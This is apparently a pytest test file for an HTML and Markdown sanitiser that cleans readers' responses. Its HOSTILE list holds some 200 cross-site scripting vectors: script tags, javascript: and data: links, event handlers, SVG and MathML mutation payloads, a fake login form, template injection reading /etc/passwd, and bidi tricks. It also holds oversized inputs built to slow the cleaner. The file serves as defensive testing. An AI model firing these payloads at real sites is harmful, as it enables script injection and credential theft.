"""What a stranger may say in HTML."""

import re
import time
from urllib.parse import urlsplit

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup, escape

from partwork.responses.clean import (
    _PLAIN,
    _PLAIN_ADDRESS,
    _PROSE,
    ATTRIBUTES,
    REL,
    TAGS,
    Cleaner,
    _converter,
    _pass,
    clean,
    name,
    web_address,
)
from partwork.text import safe
from tests.builders import PROPERTY, make_response

_XLINK = "xlink:href"
_UNSAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufffe\uffff]")

HOSTILE = [
    # Scripts, however they are written.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/xss src=//evil.example></script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script><!--\nalert(1)//--></script>",
    "</p><script>alert(1)</script><p>",
    "<b><script>alert(1)</script></b>",
    "<script type=application/ld+json>{}</script>",
    "<p>x<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\ufeff<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    # Addresses that are programs.
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\rscript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>",
    "<a href='java&#09;script:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='javascript&#58alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#x202e;javascript:alert(1)'>x</a>",
    "<a href='java&#x202e;script:alert(1)'>x</a>",
    "<a href='java\u200bscript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    "<a href='javascript://https://x.example/%0aalert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='livescript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='DATA:image/svg+xml,<svg onload=alert(1)>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='ftp://evil.example/'>x</a>",
    "<a href='blob:https://x.example/1'>x</a>",
    "<a href='filesystem:https://x.example/1'>x</a>",
    "<a href='view-source:https://x.example/'>x</a>",
    "<a href='intent://x#Intent;scheme=https;end'>x</a>",
    "<a href='tel:+100'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='feed:https://x.example/'>x</a>",
    "<a href='jar:https://x.example!/'>x</a>",
    "<a href='https:javascript:alert(1)'>x</a>",
    # Addresses that are nobody's.
    "<a href='/about'>x</a>",
    "<a href='about.html'>x</a>",
    "<a href='../../admin'>x</a>",
    "<a href='#comment-1'>x</a>",
    "<a href='?delete=1'>x</a>",
    "<a href=''>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example\\share'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='https:/evil.example'>x</a>",
    "<a href='https://'>x</a>",
    "<a href='https://[::1'>x</a>",
    "<a href='://evil.example'>x</a>",
    # Event handlers.
    "<p onclick=alert(1)>x</p>",
    "<b onmouseover='alert(1)'>x</b>",
    "<a href=https://x.example/ onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<a href='https://x.example/' / onclick='alert(1)'>x</a>",
    '<a href="https://x.example/"onclick="alert(1)">x</a>',
    "<a href=\"https://x.example/' onclick=alert(1) '\">x</a>",
    "<a href='https://x.example/\" onclick=alert(1) \"'>x</a>",
    "<abbr title='\" onmouseover=alert(1) \"'>x</abbr>",
    "<abbr title='x&quot; onmouseover=&quot;alert(1)'>x</abbr>",
    "<abbr title=x&#62;<script>alert(1)</script>>x</abbr>",
    "<p/onclick=alert(1)>x</p>",
    "<p ONCLICK\n=\nalert(1)>x</p>",
    "<body onload=alert(1)>x",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<blockquote onpointerenter=alert(1) cite='javascript:alert(1)'>x</blockquote>",
    "<a href='https://x.example/'>\u0338 onclick=alert(1) x</a>",
    "<a href='https://x.example/'>&#x338; onclick=alert(1) x</a>",
    # Pictures, frames, forms, and all that calls home.
    "<img src=x onerror=alert(1)>",
    "<img src='https://tracker.example/pixel.gif' width=1 height=1>",
    "<img srcset='https://tracker.example/a 2x'>",
    "<picture><source srcset=https://tracker.example/a><img></picture>",
    "<image src=x onerror=alert(1)>",
    "<video src=https://tracker.example/a autoplay><source onerror=alert(1)></video>",
    "<audio src=https://tracker.example/a autoplay></audio>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe><script>alert(1)</script></iframe>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x></applet>",
    "<form action=https://evil.example/><input name=password><button>Log in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea><script>alert(1)</script>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta name=referrer content=unsafe-url>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=pingback href=https://evil.example/>",
    "<link rel=webmention href=https://evil.example/>",
    "<bgsound src=https://evil.example/>",
    "<table background=https://tracker.example/><tr><td>x</table>",
    "<portal src=https://evil.example/></portal>",
    "<a href=https://x.example/ ping=https://tracker.example/>x</a>",
    "<a href=https://x.example/ target=_blank download>x</a>",
    "<p hidden contenteditable draggable=true dir=rtl lang=xx>x</p>",
    "<custom-element is=x>x</custom-element>",
    "<slot name=x>x</slot>",
    # Styles.
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<b style='width:expression(alert(1))'>x</b>",
    "<font color=red size=7>x</font>",
    "<center>x</center>",
    "<h1>Breaking news</h1>",
    # Forging: what the page itself says with ids, classes and rels.
    "<p id=comment-1041>x</p>",
    "<a id=respond name=respond>x</a>",
    "<p class='bypostauthor'>x</p>",
    "<article class='h-entry'><p class=p-name>x</p><time class=dt-published>x</time></article>",
    "<a class='u-in-reply-to' href=https://x.example/>x</a>",
    "<a class='h-card u-url' rel=me href=https://evil.example/>x</a>",
    "<a rel=webmention href=https://evil.example/>x</a>",
    "<a rel='pingback' href=https://evil.example/>x</a>",
    "<a rel='author dofollow' href=https://evil.example/>x</a>",
    "<a rel=me rel=webmention href=https://evil.example/>x</a>",
    "<ol aria-current=page role=navigation data-x=y><li value=3>x</ol>",
    "<div itemscope itemtype=https://schema.org/Person><p itemprop=name>x</p></div>",
    "<q cite=https://evil.example/>x</q><del cite=https://evil.example/ datetime=2010-01-01>x</del>",
    # The syntax of templates and of Pelican's links.
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{# comment #}",
    "<code>{{ config }}</code>",
    "<a href='{filename}/drafts/secret.md'>x</a>",
    "<a href='|filename|/drafts/secret.md'>x</a>",
    "<a href='{static}/x.pdf'>x</a><a href='{attach}x.pdf'>x</a>",
    "<a href='{part}resume'>x</a>",
    "<a href='https://x.example/{{ url }}|{filename}'>x</a>",
    "<abbr title='{{ 7 * 7 }} |tag|x'>x</abbr>",
    "<img src='{static}/x.png'>",
    "&#123;&#123; 7 * 7 &#125;&#125; &lbrace;% x %&rcub; &vert;filename&vert;",
    # What changes its meaning between two parsers.
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    f"<svg><a {_XLINK}=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) />",
    f"<svg><use {_XLINK}='data:image/svg+xml,x#x' /></svg>",
    "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><p><style><g title="</style><img src onerror=alert(1)>">',
    "<svg><desc><p>x</desc></svg><title><b>x</title>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img onerror=alert(1)>">',
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml>",
    "<math><mtext><mglyph><style><![CDATA[</style><img src=x onerror=alert(1)>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script><p id=x>x</p></template>",
    "<template><template shadowrootmode=open><img src=x onerror=alert(1)></template></template>",
    '<p title="</p><img src=x onerror=alert(1)>">x',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<plaintext><img src=x onerror=alert(1)>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img onerror=alert(1)>">',
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>",
    "<b <script>alert(1)</script>0",
    "<a<script>alert(1)</script>",
    "<p><button><p><button><p>x",
    "<a href=https://x.example/><table><tr><td><a href=https://y.example/>x</table>",
    "<table><a href=https://x.example/><tr><td><b>x</table>y",
    "<b><i><p></b>x</i><u>y",
    "<ul><li><object><li>x</object></ul>",
    "<pre>\n\n\n\n\n\n\n\n\n\n\n\n\nx</pre>",
    "<p><marquee><p><marquee><p><marquee><p><marquee><p><marquee><p><marquee><p>x",
    # Signs that are not what they look like.
    "a\x00b&#0;c",
    "evil\u202etxt.exe",
    "evil&#x202e;txt.exe&#x2066;&#8297;",
    "<b>\u0338</b><b>&#x338;</b>=\u0338",
    "&#xfffe;&#xffff;&#x80;&#xd800;&#x110000;&#1;&#127;",
    "\x1b[31mred\x07",
    "\ud800",
    "&lt\u037e",
]


def tree(html):
    """Return the body that a browser makes of a fragment."""
    return html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)


def outline(element):
    """Return a tree as nested values, to compare it."""
    return (
        element.tag,
        sorted(element.attrib.items()),
        element.text or "",
        [outline(child) for child in element],
        element.tail or "",
    )


def assert_harmless(html):
    """Check that a browser finds nothing but the allow-list in `html`."""
    for element in tree(html).iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert element.tag in TAGS, f"{element.tag} in {html!r}"
        allowed = ATTRIBUTES.get(element.tag, set()) | ({"rel"} if element.tag == "a" else set())
        assert set(element.attrib) <= allowed, html
        if element.tag == "a":
            assert element.attrib["rel"] == REL
        if "href" in element.attrib:
            parts = urlsplit(element.attrib["href"])
            assert parts.scheme == "mailto" or (parts.scheme in {"http", "https"} and parts.netloc), html
    assert "<!--" not in html
    assert not set("{}|") & set(html)
    assert not _UNSAFE.search(html)
    html.encode()


def test_there_are_many_vectors():
    """The table of hostile vectors is long, and none is there twice."""
    assert len(HOSTILE) == len(set(HOSTILE)) >= 120


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_comes_out_harmless(html):
    """Only the allow-list is left, as a browser sees it, and cleaning and parsing again change nothing."""
    cleaned = clean(html)
    assert_harmless(cleaned)
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_markdown_comes_out_harmless(html):
    """The same holds for what Markdown makes of it."""
    for markdown in (html, f"- {html}\n\n> {html}", f"`{html}`"):
        assert_harmless(Cleaner().html(make_response(html="", markdown=markdown)))


@pytest.mark.parametrize("html", HOSTILE)
def test_harmless_html_reads_back_as_it_was_written(html):
    """What a browser reads, written and read again, is the same tree: nothing mutates."""
    once = tree(clean(html))
    written = html5lib.serialize(
        once,
        tree="etree",
        omit_optional_tags=False,
        quote_attr_values="always",
        minimize_boolean_attributes=False,
    )
    assert outline(tree(written)) == outline(once)
    assert_harmless(written.replace("{", "&#123;").replace("}", "&#125;").replace("|", "&#124;"))


@pytest.mark.parametrize(
    ("html", "cleaned"),
    [
        ("<p>One <em>two</em> <strong>three</strong>.</p>", None),
        ("<blockquote><p>Said.</p></blockquote><p>Yes.<br>No.</p>", None),
        ("<ol><li>a</li><li>b</li></ol><ul><li>c</li></ul>", None),
        ("<pre><code>x &lt; y &amp;&amp; z</code></pre>", None),
        (
            "<p>H<sub>2</sub>O x<sup>2</sup> <kbd>Ctrl</kbd> <q>q</q> <s>s</s> <del>d</del> <ins>i</ins></p>",
            None,
        ),
        ('<abbr title="Human Resources">HR</abbr> <cite>A Book</cite> <b>b</b> <i>i</i>', None),
        (
            '<a href="https://x.example/a?b=1&amp;c=2#d">x</a>',
            f'<a href="https://x.example/a?b=1&amp;c=2#d" rel="{REL}">x</a>',
        ),
        ('<a href="HTTP://X.example/">x</a>', f'<a href="HTTP://X.example/" rel="{REL}">x</a>'),
        ('<a href="mailto:a@x.example">x</a>', f'<a href="mailto:a@x.example" rel="{REL}">x</a>'),
        ("<p>2 < 3 & 4 > 1</p>", "<p>2 &lt; 3 &amp; 4 &gt; 1</p>"),
        ("<p>unclosed", "<p>unclosed</p>"),
        ("<h1>Title</h1><div>text</div>", "Titletext"),
        ("a<script>b</script>c<style>d</style>e", "ace"),
        ("<!-- secret -->seen", "seen"),
        ("שלום 👩\u200d💻 é e\u0301", None),
        ("<pre>\n  x</pre>", "<pre>  x</pre>"),
        ("", ""),
    ],
)
def test_what_is_allowed_stays(html, cleaned):
    """Phrasing, lists, quotations, code and links to the web stay as they are."""
    assert clean(html) == (html if cleaned is None else cleaned)


_SOUP = st.lists(
    st.one_of(
        st.sampled_from(
            [f"<{tag}>" for tag in sorted(TAGS)]
            + [f"</{tag}>" for tag in sorted(TAGS)]
            + "<table> </table> <tr> <td> <caption> <button> </button> <object> <marquee> </marquee>".split()
            + "<svg> </svg> <math> <mtext> <mi> <mglyph> <style> </style> <template> </template>".split()
            + "<form> <select> <option> <div> </div> <h1> <title> <!-- --> <![CDATA[ ]]> <noscript>".split()
            + ["<a href='https://x.example/'>", "<a href=javascript:x>", "<b id=x class=y onclick=z>"]
            + [
                "<abbr title='<b>{{\"'>",
                "&lt;",
                "&#x202e;",
                "&#x338;",
                "&#10;",
                "\n",
                " ",
                "x",
                "{{",
                "|",
                "=",
            ]
        ),
        st.text(max_size=4),
    ),
    max_size=24,
).map("".join)


@given(_SOUP)
@settings(PROPERTY, max_examples=400)
def test_any_soup_of_tags_comes_out_harmless_and_stays(html):
    """Whatever tags are heaped up, only the allow-list is left, and cleaning it again changes nothing."""
    cleaned = clean(html)
    assert_harmless(cleaned)
    assert clean(cleaned) == cleaned


@given(st.text(max_size=60))
@settings(PROPERTY)
def test_text_stays_text(text):
    """Text that was escaped reads the same afterwards, but for what is unsafe in any text."""
    shown = "".join(tree(clean(str(escape(text)))).itertext())
    assert shown == safe(text).replace("\r\n", "\n").replace("\r", "\n")


def test_what_never_stands_still_is_shown_as_text(monkeypatch):
    """Where cleaning goes on changing the tree, no tag of it is trusted."""
    monkeypatch.setattr("partwork.responses.clean._PASSES", 1)
    cleaned = clean("<p><button><p>x")
    assert cleaned == "&lt;p&gt;&lt;p&gt;x&lt;/p&gt;&lt;/p&gt;"
    assert_harmless(cleaned)


@pytest.mark.parametrize(
    "html",
    [
        "<b>" * 20_000,
        "<blockquote>" * 5_000,
        "<a href=https://x.example/>" * 5_000,
        "<b><p>" * 5_000,
        "<p><button>" * 3_000,
        "<" * 100_000,
        "&" * 100_000,
        "<pre>" + "\n" * 50_000,
        "<b " + "a=b " * 50_000 + ">",
        "<p>" + "<em>x</em> " * 20_000,
        '<p><a href="https://' + "a-b." * 20_000,
        "<div>" * 100_000,
        "<ul><li>" * 50_000,
        "<p>" + "".join(f"<b x={n}>" for n in range(5_000)) + "</p>" + "<p>x</p>" * 5_000,
        "<p>" + "".join(f"<b x={n}>" for n in range(900)) + "</p>" + "<p>x</p>" * 500,
    ],
)
def test_heaps_of_tags_take_no_recursion_and_little_time(html):
    """A response made to be slow, or to fill the page, is cleaned at once and stays of its size."""
    began = time.process_time()
    cleaned = clean(html)
    assert time.process_time() - began < 30
    assert len(cleaned) < 6 * len(html)
    assert_harmless(cleaned)


@pytest.mark.parametrize(
    "html", ["<p>x<br>y</p>" * 660, "<ul>" + "<li><b>x</b> <i>y</i></li>" * 330 + "</ul>"]
)
def test_a_long_response_keeps_its_tags(html):
    """What people write at length is far from what is made to be slow."""
    assert len([*tree(clean(html)).iter()]) == len([*tree(html).iter()])


@pytest.mark.parametrize(
    "markdown",
    [
        "[",
        "![",
        "[a](",
        "<a ",
        "<![CDATA[",
        "<http://",
        "a\n=\n",
        "`a``",
        "*a _b ",
        "> ",
        "- a\n",
        "&#",
        "\\",
    ],
)
def test_markdown_made_to_be_slow_is_shown_as_written(markdown):
    """A hundred thousand signs of Markdown are no text; they take no time and lose nothing."""
    heap = markdown * (100_000 // len(markdown))
    began = time.process_time()
    html = Cleaner().html(make_response(html="", markdown=heap))
    assert time.process_time() - began < 30
    assert "".join(tree(html).itertext()) == heap


@pytest.mark.parametrize(
    "markdown", ["*a* `b` [c](https://x.example/)\n\n" * 90, "> said\n\nand *so* on\n\n" * 200]
)
def test_long_markdown_is_read(markdown):
    """What people write at length is read as Markdown."""
    assert "<em>" in Cleaner().html(make_response(html="", markdown=markdown))


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://x.example/", "https://x.example/"),
        (" http://x.example/a?b=1&c=2 ", "http://x.example/a?b=1&amp;c=2"),
        ("https://x.example/\"onclick='x'", "https://x.example/&#34;onclick=&#39;x&#39;"),
        ("https://x.example/{{x}}|y", "https://x.example/&#123;&#123;x&#125;&#125;&#124;y"),
        ("https://x.example/\u202efdp.exe", "https://x.example/fdp.exe"),
        ("mailto:a@x.example", ""),
        ("MAILTO:a@x.example", ""),
        ("javascript:alert(1)", ""),
        ("java\tscript:alert(1)", ""),
        ("\x01javascript:alert(1)", ""),
        ("data:text/html,x", ""),
        ("//x.example/", ""),
        ("/x", ""),
        ("x.example", ""),
        ("https:x.example", ""),
        ("https://x.example/ onclick=x", ""),
        ("https://x.example/\nhttps://y.example/", ""),
        ("https://[::1", ""),
        ("{filename}/x.md", ""),
        ("", ""),
    ],
)
def test_address_of_a_name_leads_to_the_web_or_nowhere(url, shown):
    """A name links to a web address, escaped; to nothing else."""
    assert web_address(url) == Markup(shown)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("A Reader", "A Reader"),
        ("  A \n\t Reader ", "A Reader"),
        ("<b>Ann</b> & Co", "&lt;b&gt;Ann&lt;/b&gt; &amp; Co"),
        ("{{ x }} |y|", "&#123;&#123; x &#125;&#125; &#124;y&#124;"),
        ("Ann\u202e\x00\x07", "Ann"),
        ("Rene\u0301", "René"),
        ("x" * 200, "x" * 120),
        ("", ""),
    ],
)
def test_name_is_one_escaped_line(text, shown):
    """A name is one line of bounded length that cannot be markup."""
    assert name(text) == Markup(shown)


def test_markdown_of_a_response_becomes_clean_html():
    """Markdown is read with its line breaks, and its links are marked as a stranger's."""
    html = Cleaner().html(make_response(html="", markdown="*Yes*,\nsee <https://x.example/>.\n\n> Said."))
    assert html == (
        f'<p><em>Yes</em>,<br>\nsee <a href="https://x.example/" rel="{REL}">https://x.example/</a>.</p>\n'
        "<blockquote>\n<p>Said.</p>\n</blockquote>"
    )
    assert isinstance(html, Markup)


def test_html_of_a_response_is_cleaned():
    """HTML goes through the cleaner; a response without text is empty."""
    assert Cleaner().html(make_response(html="<p onclick=x>Hi</p>")) == "<p>Hi</p>"
    assert Cleaner().html(make_response(html="")) == ""


def test_one_response_leaves_nothing_to_the_next():
    """A link that one response defines means nothing in another."""
    cleaner = Cleaner()
    cleaner.html(make_response(html="", markdown="[x]: https://evil.example/\n\n[x]"))
    assert cleaner.html(make_response(html="", markdown="[x]")) == "<p>[x]</p>"


@pytest.mark.parametrize("markdown", ["- " * 3000 + "x", "1. " * 2000 + "<b>x</b>"])
def test_lists_too_deep_for_markdown_are_shown_as_written(markdown):
    """A response that Markdown cannot read is shown as its text, and the next one is read as ever."""
    cleaner = Cleaner()
    html = cleaner.html(make_response(html="", markdown=markdown))
    assert_harmless(html)
    assert "".join(tree(html).itertext()) == markdown
    assert cleaner.html(make_response(html="", markdown="*x*")) == "<p><em>x</em></p>"


@pytest.mark.parametrize("text", ["", "  ", "\u200b\u200d", "\u0301", "\u2060 \ufe0f"])
def test_a_name_that_cannot_be_seen_is_none(text):
    """Zero-width characters and loose marks make no name."""
    assert name(text) == ""


_WORDS = st.text(st.characters(exclude_characters="<>&{}|\r\xa0"), max_size=8)
_LINK = st.builds(
    '<a href="{}"{}>{}</a>'.format,
    st.from_regex(_PLAIN_ADDRESS, fullmatch=True),
    st.sampled_from(["", f' rel="{REL}"']),
    _WORDS,
)
_STRESS = st.builds("<{0}>{1}</{0}>".format, st.sampled_from(["em", "strong", "code"]), _WORDS)
_PARAGRAPH = st.lists(st.one_of(_WORDS, st.just("<br>\n"), _STRESS, _LINK), max_size=4).map("".join)


@PROPERTY
@given(st.lists(_PARAGRAPH, min_size=1, max_size=3), st.sampled_from(["", "\n", "\n\n"]))
def test_what_is_plain_is_cleaned_as_anything_is(paragraphs, gap):
    """The short way for paragraphs of text, stress and links ends where the sanitiser does."""
    html = gap.join(f"<p>{paragraph}</p>" for paragraph in paragraphs)
    assert _PLAIN.fullmatch(html)
    assert clean(html) == _pass(safe(html))
    assert clean(clean(html)) == clean(html)


_SIGNS = st.text(st.one_of(st.sampled_from("abé1 .,;:-=+~#'\"()/\u2028\n"), st.characters()), max_size=12)
_STARRED = st.builds(
    "{0}{1}{0}".format,
    st.sampled_from(["*", "**", "`"]),
    st.sampled_from(["a", "é b", "1", "a-b", "a  b", ""]),
)


@given(st.lists(st.one_of(_SIGNS, _STARRED), max_size=5).map(" ".join))
@settings(PROPERTY, max_examples=300)
def test_prose_is_read_as_markdown_reads_it(text):
    """The short way for paragraphs of prose ends where Markdown does."""
    markdown = safe(f"a{text}")
    if _PROSE.fullmatch(markdown):
        assert Cleaner().html(make_response(html="", markdown=markdown)) == clean(
            _converter().convert(markdown)
        )


@pytest.mark.parametrize(
    "url", ["https://xn--a.example/", "https://1.2.3.400/", "https://a_b.example/", "https://a/"]
)
def test_odd_hosts_take_the_long_way(url):
    """Only a host that every reader of addresses takes for one is let through without a look."""
    assert not _PLAIN_ADDRESS.fullmatch(url)
